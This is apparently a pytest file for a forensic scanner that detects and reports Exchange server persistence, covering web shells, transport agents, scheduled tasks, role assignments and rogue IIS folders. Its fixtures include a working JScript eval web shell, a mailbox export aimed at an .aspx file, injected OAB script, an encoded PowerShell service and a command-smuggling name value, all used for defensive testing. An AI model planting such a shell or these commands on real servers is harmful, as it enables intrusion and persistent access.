"""Can they come back? Each way back once, with its state, its story and its removal."""

import json
from pathlib import Path
from typing import Any

from scenario import cmdlet, rescanned, the_host

AUTH = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
CLIENT = r"C:\inetpub\wwwroot\aspnet_client"
WEB_LOG = "C/inetpub/logs/LogFiles/W3SVC1/u_ex230510.log"
FIELDS = (
    "#Software: Microsoft Internet Information Services 10.0\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
)
SHELL = "".join(['<%@ Page Language="', 'Jscript"%><%ev', 'al(Request.Item["k"],"un', 'safe");%>'])
DEFENDER = "Microsoft-Windows-Windows Defender/Operational"


def put(folder: Path, path: str, text: str, *, encoding: str = "utf-8") -> None:
    file = folder / "EVIDENCE" / "EX01" / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding)


def event(when: str, channel: str, number: int, record: int, **data: str) -> str:
    system = {
        "Provider": {"#attributes": {"Name": channel.partition("/")[0]}},
        "EventID": number,
        "TimeCreated": {"#attributes": {"SystemTime": when}},
        "EventRecordID": record,
        "Channel": channel,
        "Computer": "EX01.contoso.example",
    }
    return json.dumps({"Event": {"System": system, "EventData": data}})


def request(when: str, method: str, page: str, status: int, address: str = "203.0.113.9") -> str:
    return (
        f"2023-05-10 {when} 10.0.0.5 {method} {page} - 443 - {address} Mozilla/5.0 - {status} 0 0 9"
    )


def web_log(*rows: str) -> str:
    return FIELDS + "\n".join(rows) + "\n"


def scanned(folder: Path) -> tuple[dict[str, Any], dict[tuple[str, str], dict[str, Any]]]:
    """Scan; return the host and its ways back by kind and name."""
    _, case = rescanned(folder)
    host = the_host(case)
    return host, {(one["kind"], one["object"]): one for one in host["persistence"]}


def test_a_shell_that_was_used_and_then_taken_by_the_antivirus_is_gone(tmp_path: Path) -> None:
    page = "/owa/auth/x9.aspx"
    rows = [request(f"05:0{n}:00", "POST", page, 200) for n in range(5)]
    put(tmp_path, WEB_LOG, web_log(*rows, request("09:00:00", "GET", page, 302)))
    file = r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\x9.aspx"
    caught = {
        "Threat Name": "Backdoor:ASP/Chopper.G!dha",
        "Path": f"file:_{file}",
        "Action ID": "2",
        "Action Name": "Quarantine",
    }
    put(
        tmp_path, "defender.json", event("2023-05-10T08:00:00Z", DEFENDER, 1117, 3, **caught) + "\n"
    )
    host, ways = scanned(tmp_path)
    assert host["verdict"]["status"] == "compromised"
    (shell,) = ways.values()
    assert (shell["kind"], shell["object"], shell["state"]) == ("web-shell", page, "removed")
    assert "2023-05-10 08:00:00" in shell["state_note"]
    assert shell["first"].startswith("2023-05-10T05:00:00")
    assert "203.0.113.9" in shell["by"]
    told = [chapter["what"] for chapter in shell["story"]]
    assert told.index("used") < told.index("removed")
    assert not any("Delete" in step for step in shell["removal"]), "it is gone"
    assert all(action["id"] != "remove-ways-back" for action in host["actions"])


def test_a_shell_that_lies_there_is_told_with_its_requests_and_how_to_take_it_out(
    tmp_path: Path,
) -> None:
    page = "/owa/auth/errorFS.aspx".lower()
    put(tmp_path, f"{AUTH}/errorFS.aspx", SHELL)
    rows = [request(f"05:0{n}:00", "POST", "/owa/auth/errorFS.aspx", 200) for n in range(3)]
    put(tmp_path, WEB_LOG, web_log(*rows))
    host, ways = scanned(tmp_path)
    shell = ways["web-shell", page]
    assert len(ways) == 1, "page and requests are one"
    assert shell["state"] == "present"
    assert shell["paths"][0].endswith("errorFS.aspx")
    assert [step for step in shell["removal"] if f'Delete "{page}"' in step]
    ids = [action["id"] for action in host["actions"]]
    assert ids.index("preserve") < ids.index("remove-ways-back") < ids.index("find-shells")
    (action,) = (one for one in host["actions"] if one["id"] == "remove-ways-back")
    assert page in action["title"]


def test_an_agent_that_could_not_be_installed_is_only_tried(tmp_path: Path) -> None:
    tried = cmdlet(
        "2023-05-10T05:03:20.402Z",
        "Install-TransportAgent",
        r'-Name "Mail Helper" -TransportAgentFactory "A.B" -AssemblyPath "C:\Windows\Temp\a.dll"',
        "The assembly could not be loaded",
    )
    put(tmp_path, "management.json", tried + "\n")
    host, ways = scanned(tmp_path)
    agent = ways["transport-agent", "Mail Helper"]
    assert agent["state"] == "attempted"
    assert host["verdict"]["status"] == "targeted"
    assert not any("Uninstall" in step for step in agent["removal"])


def test_an_agent_that_worked_at_the_second_try_is_no_longer_only_tried(tmp_path: Path) -> None:
    words = (
        r'-Name "Mail Helper" -TransportAgentFactory "A.B" -AssemblyPath "C:\Windows\Temp\a.dll"'
    )
    acts = [
        cmdlet("2023-05-10T05:03:20.402Z", "Install-TransportAgent", words, "not loaded"),
        cmdlet("2023-05-10T05:04:20.402Z", "Install-TransportAgent", words),
    ]
    put(tmp_path, "management.json", "\n".join(acts) + "\n")
    _, ways = scanned(tmp_path)
    agent = ways["transport-agent", "Mail Helper"]
    assert agent["state"] == "unknown"
    assert [chapter["what"] for chapter in agent["story"]] == ["attempted", "planted"]


TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\\Winnet</URI></RegistrationInfo>
  <Actions Context="Author"><Exec><Command>cmd.exe</Command>
  <Arguments>/c start C:\\ProgramData\\w.exe</Arguments></Exec></Actions>
</Task>
"""


def test_a_task_on_disk_is_there(tmp_path: Path) -> None:
    put(tmp_path, "C/Windows/System32/Tasks/Winnet", TASK, encoding="utf-16")
    host, ways = scanned(tmp_path)
    ((kind, name), task) = next(iter(ways.items()))
    assert (kind, name.strip("\\")) == ("scheduled-task", "Winnet")
    assert task["state"] == "present"
    assert any("schtasks /delete" in step for step in task["removal"])
    (action,) = (one for one in host["actions"] if one["id"] == "ask-about-ways-back")
    assert "Winnet" in action["title"], "nothing proves it alone: ask"


ROLE = '-Role "Mailbox Import Export" -User "administrator@contoso.example"'


def test_a_role_stays_when_the_export_failed(tmp_path: Path) -> None:
    acts = [
        cmdlet("2023-05-10T05:03:20.402Z", "New-ManagementRoleAssignment", ROLE),
        cmdlet(
            "2023-05-10T05:03:40.402Z",
            "New-MailboxExportRequest",
            r'-Mailbox "ceo" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\q.aspx"',
            "access denied",
        ),
    ]
    put(tmp_path, "management.json", "\n".join(acts) + "\n")
    _, ways = scanned(tmp_path)
    role = ways["role-assignment", "Mailbox Import Export-administrator@contoso.example"]
    assert role["state"] == "unknown", "nothing tells that it was taken back"
    assert any("Remove-ManagementRoleAssignment" in step for step in role["removal"])
    assert ways["web-shell", "/aspnet_client/q.aspx"]["state"] == "attempted"


def test_a_role_that_was_taken_back_is_gone(tmp_path: Path) -> None:
    acts = [
        cmdlet("2023-05-10T05:03:20.402Z", "New-ManagementRoleAssignment", ROLE),
        cmdlet(
            "2023-05-10T06:03:20.402Z",
            "Remove-ManagementRoleAssignment",
            '-Identity "Mailbox Import Export-Administrator" -Confirm "False"',
        ),
    ]
    put(tmp_path, "management.json", "\n".join(acts) + "\n")
    _, ways = scanned(tmp_path)
    (role,) = ways.values()
    assert (role["kind"], role["state"]) == ("role-assignment", "removed")
    assert [chapter["what"] for chapter in role["story"]] == ["planted", "removed"]


def test_a_role_that_was_given_again_after_its_removal_is_not_gone(tmp_path: Path) -> None:
    again = '-Identity "Mailbox Import Export-Administrator"'
    acts = [
        cmdlet("2023-05-10T05:03:20.402Z", "New-ManagementRoleAssignment", ROLE),
        cmdlet("2023-05-10T06:03:20.402Z", "Remove-ManagementRoleAssignment", again),
        cmdlet("2023-05-10T07:03:20.402Z", "New-ManagementRoleAssignment", ROLE),
    ]
    put(tmp_path, "management.json", "\n".join(acts) + "\n")
    _, ways = scanned(tmp_path)
    (role,) = ways.values()
    assert role["state"] == "unknown"
    assert "removed at 2023-05-10 06:03:20 UTC" in role["state_note"]
    assert "came back. It was last seen to be there at 2023-05-10 07:03:20" in role["state_note"]


def test_what_was_only_removed_is_no_way_back(tmp_path: Path) -> None:
    act = '-Identity "Mailbox Import Export-Deputy"'
    put(tmp_path, "m.json", cmdlet("2023-05-10T06:00:00Z", "Remove-ManagementRoleAssignment", act))
    _, ways = scanned(tmp_path)
    assert ways == {}


def test_an_account_that_was_made_and_deleted_is_gone(tmp_path: Path) -> None:
    acts = [
        event(
            "2023-05-10T05:00:00Z",
            "Security",
            4720,
            1,
            TargetUserName="svc_x",
            SubjectUserName="EX01$",
        ),
        event(
            "2023-05-10T07:00:00Z",
            "Security",
            4726,
            2,
            TargetUserName="svc_x",
            SubjectUserName="EX01$",
        ),
    ]
    put(tmp_path, "security.json", "\n".join(acts) + "\n")
    _, ways = scanned(tmp_path)
    account = ways["account", "svc_x"]
    assert (account["state"], account["by"]) == ("removed", ["EX01$"])
    assert [chapter["what"] for chapter in account["story"]] == ["planted", "removed"]


def test_a_name_with_an_order_in_it_is_not_put_into_a_command(tmp_path: Path) -> None:
    evil = r'-Name "x$(calc)`;iex" -TransportAgentFactory "A.B" -AssemblyPath "C:\Temp\a.dll"'
    put(tmp_path, "m.json", cmdlet("2023-05-10T06:00:00Z", "Install-TransportAgent", evil) + "\n")
    _, ways = scanned(tmp_path)
    (agent,) = ways.values()
    assert "calc" in agent["object"]
    assert not any("calc" in step for step in agent["removal"])
    assert any("<the name above>" in step for step in agent["removal"])


WEB = r"\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth"
MFT = (
    "EntryNumber,SequenceNumber,InUse,ParentEntryNumber,ParentSequenceNumber,ParentPath,FileName,"
    "Extension,FileSize,ReferenceCount,ReparseTarget,IsDirectory,HasAds,IsAds,SI<FN,uSecZeros,"
    "Copied,SiFlags,NameType,Created0x10,Created0x30\n"
    f"100,2,False,99,1,.{WEB},x9.aspx,.aspx,300,1,,False,False,False,False,False,False,Archive,"
    "DosWindows,2023-05-10 04:59:58.1234567,\n"
)


def test_the_entry_of_a_deleted_file_tells_when_it_was_made_and_that_it_is_gone(
    tmp_path: Path,
) -> None:
    put(tmp_path, "mft.csv", MFT)
    rows = [request(f"05:0{n}:00", "POST", "/owa/auth/x9.aspx", 200) for n in range(5)]
    put(tmp_path, WEB_LOG, web_log(*rows))
    _, ways = scanned(tmp_path)
    shell = ways["web-shell", "/owa/auth/x9.aspx"]
    assert shell["state"] == "removed"
    assert "04:59" not in shell["state_note"], "that is when it was made"
    assert shell["first"].startswith("2023-05-10T04:59:58")
    assert [one["what"] for one in shell["story"]] == ["planted", "used", "removed"]
    assert shell["story"][-1]["time"] is None


def test_what_came_back_after_its_removal_is_said_to(tmp_path: Path) -> None:
    file = rf"C:{WEB}\x9.aspx"
    data = {"Threat Name": "Backdoor:ASP/Chopper", "Path": f"file:_{file}"}
    caught = event("2023-05-10T08:00:00Z", DEFENDER, 1117, 3, **data, **{"Action ID": "3"})
    put(tmp_path, "defender.json", caught + "\n")
    rows = [request(f"{n:02}:00:00", "POST", "/owa/auth/x9.aspx", 200) for n in (5, 6, 10, 11)]
    put(tmp_path, WEB_LOG, web_log(*rows))
    _, ways = scanned(tmp_path)
    shell = ways["web-shell", "/owa/auth/x9.aspx"]
    assert shell["state"] == "unknown"
    assert "2023-05-10 08:00:00 UTC and came back" in shell["state_note"]


def test_script_that_was_taken_out_of_the_setting_again_is_gone_from_it(tmp_path: Path) -> None:
    where = r'-Identity "EX01\OAB (Default Web Site)" -ExternalUrl '
    script = '"http://f/#<scr' + "ipt language=JScript runat=server>x</scr" + 'ipt>"'
    acts = [
        cmdlet("2021-03-03T05:03:20.402Z", "Set-OabVirtualDirectory", where + script),
        cmdlet("2021-03-03T05:03:50.402Z", "Set-OabVirtualDirectory", where + "$null"),
    ]
    put(tmp_path, "management.json", "\n".join(acts) + "\n")
    host, ways = scanned(tmp_path)
    (setting,) = ways.values()
    assert (setting["kind"], setting["state"]) == ("oab-setting", "removed")
    assert "by contoso.example/Users/Administrator" in setting["state_note"]
    assert setting["paths"] == [], "the name of a directory is no path"
    assert host["verdict"]["status"] == "compromised"


CONFIG = r"""<?xml version="1.0"?><configuration><system.applicationHost><sites>
<site name="Default Web Site" id="1"><application path="/">
<virtualDirectory path="/" physicalPath="C:\inetpub\wwwroot" />
<virtualDirectory path="/x" physicalPath="C:\ProgramData\COM\x" /></application>
<application path="/owa"><virtualDirectory path="/" physicalPath="C:\ProgramData\COM\y" />
</application></site></sites></system.applicationHost></configuration>"""
FOLDER_OF = (
    '/system.applicationHost/sites/site[@name="Default Web Site"]/application[@path="{}"]'
    '/virtualDirectory[@path="{}"]/@physicalPath'
)


def test_a_folder_in_the_log_and_in_the_configuration_is_one(tmp_path: Path) -> None:
    put(tmp_path, "C/Windows/System32/inetsrv/config/applicationHost.config", CONFIG)
    changes = [
        event(
            f"2023-05-10T08:00:0{at}Z",
            "Microsoft-IIS-Configuration/Operational",
            29,
            at,
            Configuration=FOLDER_OF.format(*place),
            NewValue=r"C:\ProgramData\COM\x",
        )
        for at, place in enumerate([("/", "/x"), ("/owa", "/")])
    ]
    put(tmp_path, "iis.json", "\n".join(changes) + "\n")
    host, ways = scanned(tmp_path)
    folders = {name: one for (kind, name), one in ways.items() if kind == "virtual-directory"}
    assert {name: one["state"] for name, one in folders.items()} == {
        "Default Web Site/x": "present",
        "Default Web Site/owa": "present",
    }
    added, shipped = folders["Default Web Site/x"], folders["Default Web Site/owa"]
    assert added["first"].startswith("2023-05-10T08:00:00")
    assert any("appcmd delete" in step for step in added["removal"])
    assert not any("appcmd delete" in step for step in shipped["removal"])
    (action,) = (one for one in host["actions"] if one["id"] == "remove-ways-back")
    assert "Default Web Site/owa (put right, do not delete)" in action["title"]


def test_a_page_that_exchange_needs_is_put_right_not_deleted(tmp_path: Path) -> None:
    put(tmp_path, f"{AUTH}/logon.aspx", SHELL)
    _, ways = scanned(tmp_path)
    page = ways["web-shell", "/owa/auth/logon.aspx"]
    assert any(step.startswith("Do not only delete") for step in page["removal"])
    assert not any(step.startswith("Delete") for step in page["removal"])


def test_a_service_is_not_installed_by_the_account_that_it_runs_as(tmp_path: Path) -> None:
    made = {"ServiceName": "WinSvc", "ImagePath": "cmd.exe /c powershell -enc AAAA"}
    row = event("2023-05-10T05:00:00Z", "System", 7045, 1, **made, AccountName="LocalSystem")
    put(tmp_path, "system.json", row + "\n")
    _, ways = scanned(tmp_path)
    assert ways["service", "WinSvc"]["by"] == []


def test_a_flood_of_strangers_is_counted_though_few_are_told_apart(tmp_path: Path) -> None:
    page = "/owa/auth/x9.aspx"
    rows = [
        request(f"06:{n // 60:02}:{n % 60:02}", "GET", page, 200, f"198.51.100.{n % 240}")
        for n in range(300)
    ]
    rows += [request(f"07:00:0{n}", "POST", page, 200) for n in range(5)]
    rows += [request("07:00:04", "GET", page, 302), request("07:00:09", "GET", page, 302)]
    put(tmp_path, WEB_LOG, web_log(*rows))
    _, ways = scanned(tmp_path)
    shell = ways["web-shell", page]
    assert shell["state"] == "removed", "the same second holds its last answer and the first miss"
    (asked,) = (one for one in shell["story"] if one["what"] == "asked")
    assert asked["text"].startswith("300 requests by 240 others; told apart are 49:")


def test_an_inner_address_may_stand_for_others(tmp_path: Path) -> None:
    page = "/owa/auth/x9.aspx"
    rows = [request(f"05:0{n}:00", "POST", page, 200, "10.0.0.1") for n in range(5)]
    put(tmp_path, WEB_LOG, web_log(*rows))
    _, ways = scanned(tmp_path)
    (used,) = (one for one in ways["web-shell", page]["story"] if one["what"] == "used")
    assert "10.0.0.1 is an inner address" in used["text"]


def test_no_attack_is_no_good_news_above_ways_back(tmp_path: Path) -> None:
    put(tmp_path, "C/Windows/System32/Tasks/Winnet", TASK, encoding="utf-16")
    host, ways = scanned(tmp_path)
    assert host["verdict"]["status"] == "cannot-tell"
    assert "One thing could let somebody back in all the same" in host["verdict"]["reason"]
    (task,) = ways.values()
    assert task["removal"][0].startswith("Ask whose"), "administrators make tasks too"


def test_a_folder_that_only_an_older_configuration_has_is_gone(tmp_path: Path) -> None:
    old = "C/inetpub/history/CFGHISTORY_0000000012/applicationHost.config"
    put(tmp_path, old, CONFIG)
    _, ways = scanned(tmp_path)
    assert {one["state"] for one in ways.values()} == {"unknown"}, "the last one is not at hand"
    clean = CONFIG.replace(r"C:\ProgramData\COM", r"C:\Program Files\Microsoft\Exchange Server")
    put(tmp_path, "C/Windows/System32/inetsrv/config/applicationHost.config", clean)
    (tmp_path / "case").rename(tmp_path / "earlier")
    _, ways = scanned(tmp_path)
    folder = ways["virtual-directory", "Default Web Site/x"]
    assert (folder["state"], "older copy" in folder["state_note"]) == ("removed", True)
